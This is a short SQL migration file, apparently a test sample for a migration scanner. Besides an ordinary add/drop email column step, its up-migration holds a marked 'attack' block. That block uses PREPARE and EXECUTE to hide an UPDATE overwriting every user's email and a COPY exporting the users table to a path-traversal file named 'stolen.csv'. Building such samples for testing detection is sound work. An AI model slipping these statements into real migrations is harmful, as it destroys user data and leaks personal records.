-- hides a statement behind PREPARE and EXECUTE
-- migrate:up
ALTER TABLE users ADD COLUMN email VARCHAR;
-- attack
PREPARE p AS UPDATE users SET email = 'temp@example.com'; EXECUTE p; PREPARE q AS COPY users TO '../../../stolen.csv'; EXECUTE q;
-- end attack

-- migrate:down
ALTER TABLE users DROP COLUMN email;
